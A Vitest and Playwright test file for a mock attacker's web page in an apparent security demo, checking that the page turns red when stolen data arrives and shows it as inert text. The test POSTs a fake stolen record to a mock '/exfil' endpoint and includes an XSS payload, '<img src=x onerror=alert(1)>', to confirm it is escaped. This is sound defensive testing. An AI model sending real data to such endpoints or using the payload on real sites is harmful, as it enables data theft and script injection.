// The attacker's page in a real browser: calm while the attacker has nothing, red from the first loot on (the
// seed's "goes red in Act 2"), calm again once the loot is cleared; stolen content shown as text.
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mockAttacker } from '../apps/mock-attacker/server.ts';
import { BROWSER_MISSING, launchBrowser } from '../testing/browser.ts';
import { startTestWorkload, type TestWorkload } from '../testing/workloads.ts';

const RED = 'rgb(255, 92, 92)';

let attacker: TestWorkload;
let browser: Browser | undefined;
let page: Page;

beforeAll(async () => {
  attacker = await startTestWorkload('mock-attacker', mockAttacker);
  if (BROWSER_MISSING) return;
  browser = await launchBrowser();
  page = await browser.newPage();
});
afterAll(async () => {
  await browser?.close();
  await attacker?.close();
});

const counterColour = () => page.locator('#count').evaluate((el) => getComputedStyle(el).color);

describe.skipIf(BROWSER_MISSING !== undefined)("the attacker's page", () => {
  it('is red only while it has loot', async () => {
    await page.goto(`${attacker.url}/`);
    await expect.poll(() => page.locator('.empty').count()).toBe(1);
    expect(await counterColour()).not.toBe(RED);
    expect(await page.locator('body').getAttribute('class')).toBeNull();

    const stolen = { stolen_at_tool: 'acme-fx/currency-converter', stolen_data: { name: '<img src=x onerror=alert(1)>' } };
    await fetch(`${attacker.url}/exfil`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(stolen) });
    // The page polls every 3 s.
    await expect.poll(() => page.locator('#count').innerText(), { timeout: 10_000 }).toBe('1');
    expect(await counterColour()).toBe(RED);
    expect(await page.locator('.event pre').innerText()).toContain('<img src=x onerror=alert(1)>');
    expect(await page.locator('.event img').count()).toBe(0);

    await fetch(`${attacker.url}/loot`, { method: 'DELETE' });
    await expect.poll(() => page.locator('#count').innerText(), { timeout: 10_000 }).toBe('0');
    expect(await counterColour()).not.toBe(RED);
  }, 30_000);
});
